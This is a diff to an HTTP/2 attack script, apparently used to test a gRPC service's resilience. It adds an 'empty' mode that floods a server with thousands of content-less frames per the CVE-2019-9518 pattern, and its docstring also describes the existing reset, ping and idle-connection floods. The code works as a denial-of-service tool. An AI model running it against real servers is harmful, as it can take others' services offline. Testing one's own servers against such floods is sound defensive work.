@@ -10,6 +10,14 @@ on h2raw.py). Each prints one line of results and exits 0.
   h2attack.py ping HOST:PORT N [--conns C] [--settings]
       C connections (1), each sends N PINGs (--settings: empty SETTINGS)
       and never reads.
+  h2attack.py empty HOST:PORT N KIND
+      one connection (no token) sends N frames that carry nothing, KIND:
+      data (empty DATA, no END_STREAM, on a stream it opened), continuation
+      (empty CONTINUATION, no END_HEADERS, after a HEADERS without it),
+      pingack, settingsack (ACKs of nothing), rst (RST_STREAM of a stream
+      never opened), unknown (a frame type HTTP/2 does not define), reading
+      the server meanwhile (CVE-2019-9518). The preface and the first
+      1,000 frames go in one write.
   h2attack.py idle HOST:PORT N [--from IP] [--hold S]
       N connections that send the preface and SETTINGS, acknowledge the
       server's, and then say nothing; prints "connected K of N" once the
@@ -27,7 +35,7 @@ Results: "sent K; goaway CODE|closed|open after S s" for reset and ping
 slowest S s"): goaway CODE when a GOAWAY with that error code
 (11: ENHANCE_YOUR_CALM) arrived before the close; closed: the connection
 ended without one; open: still open 10 s after the last frame (the
-reader gives up). idle: "goaway G closed X open O after S s". halfclose: "answered DATA D trailers T" (T 1: the call's trailers
+reader gives up); the same for empty. idle: "goaway G closed X open O after S s". halfclose: "answered DATA D trailers T" (T 1: the call's trailers
 arrived) or "no answer".
 """
 import os
@@ -118,6 +126,41 @@ def reset(addr, n):
                            for i in range(k, min(n, k + 500)))
     t0 = time.monotonic()
     sent = min(n, 500 * send_all(s, w, batches()))
+    w.done.wait(10)
+    print("sent %d; %s" % (sent, w.outcome(t0)), flush=True)
+    s.close()
+
+
+def empty(addr, n, kind):
+    s = connect(addr)
+    w = Watcher(s)
+    start = PREFACE + frame(SETTINGS, 0, 0)
+    if kind == "data":
+        start += frame(HEADERS, END_HEADERS, 1,
+                       request_headers("/sluice.v1.TensorService/ListModels"))
+        one = frame(DATA, 0, 1)
+    elif kind == "continuation":
+        start += frame(HEADERS, 0, 1, h2raw.hpack_literal(":method", "POST"))
+        one = frame(h2raw.CONTINUATION, 0, 1)
+    elif kind == "pingack":
+        one = frame(PING, ACK, 0, b"sluice!!")
+    elif kind == "settingsack":
+        one = frame(SETTINGS, ACK, 0)
+    elif kind == "rst":
+        one = frame(RST, 0, 1, struct.pack(">I", CANCEL))
+    elif kind == "unknown":
+        one = frame(0xfa, 0, 0)
+    else:
+        sys.exit(__doc__)
+    w.start()
+
+    # The first batch in the preface's write: the server reads them
+    # together (the flood refused before gRPC saw the connection).
+    def batches():
+        for k in range(0, n, 1000):
+            yield (start if k == 0 else b"") + one * min(1000, n - k)
+    t0 = time.monotonic()
+    sent = min(n, 1000 * send_all(s, w, batches()))
     w.done.wait(10)
     print("sent %d; %s" % (sent, w.outcome(t0)), flush=True)
     s.close()
@@ -245,6 +288,8 @@ def main():
         reset(addr, int(rest[0]))
     elif cmd == "ping":
         ping(addr, int(rest[0]), int(opt("--conns", 1)), "--settings" in rest)
+    elif cmd == "empty":
+        empty(addr, int(rest[0]), rest[1])
     elif cmd == "idle":
         idle(addr, int(rest[0]), opt("--from"), float(opt("--hold", 120)))
     elif cmd == "halfclose":
